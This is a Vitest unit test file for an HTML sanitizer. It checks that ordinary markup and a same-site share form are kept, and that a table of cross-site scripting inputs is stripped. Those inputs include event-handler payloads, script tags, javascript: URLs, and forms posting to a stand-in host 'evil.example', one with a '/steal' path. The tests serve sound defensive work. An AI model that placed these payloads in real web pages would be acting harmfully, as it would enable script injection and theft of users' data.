import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from './html-sanitizer';

describe('sanitizeHtml', () => {
  it('keeps ordinary content', () => {
    expect(sanitizeHtml('<h2>Terms</h2><p>Read <a href="/terms">these</a>.</p>')).toBe('<h2>Terms</h2><p>Read <a href="/terms">these</a>.</p>');
  });

  it.each([
    ['<img src=x onerror="alert(1)">', 'onerror'],
    ['<script>alert(1)</script>', '<script'],
    ['<a href="javascript:alert(1)">x</a>', 'javascript:'],
    ['<iframe src="https://evil.example"></iframe>', 'iframe'],
    ['<p style="position:fixed;inset:0">x</p>', 'style='],
    ['<svg><animate onbegin="alert(1)"/></svg>', 'onbegin'],
    ['<form action="https://evil.example"><button formaction="https://evil.example">x</button></form>', 'formaction'],
    ['<base href="https://evil.example/">', '<base'],
    ['<form action="https://evil.example/steal"><input name="email"></form>', 'evil.example'],
    ['<form action="//evil.example/steal"></form>', 'evil.example'],
    ['<form action="javascript:alert(1)"></form>', 'javascript:'],
    ['<a data-share-url="x" data-other="y">x</a>', 'data-other'],
  ])('removes the hostile part of %s', (html, forbidden) => {
    expect(sanitizeHtml(html)).not.toContain(forbidden);
  });

  it("keeps a form posting to this site and the share links' attributes", () => {
    const html = '<form action="/rescms/order/share/send" method="post"><input type="hidden" name="fragment" value="#rcod=x"></form><a href="https://www.facebook.com/sharer/sharer.php?u=x" data-share-url="https://www.facebook.com/sharer/sharer.php" data-share-query="u">Facebook</a>';
    expect(sanitizeHtml(html)).toBe(html);
  });
});
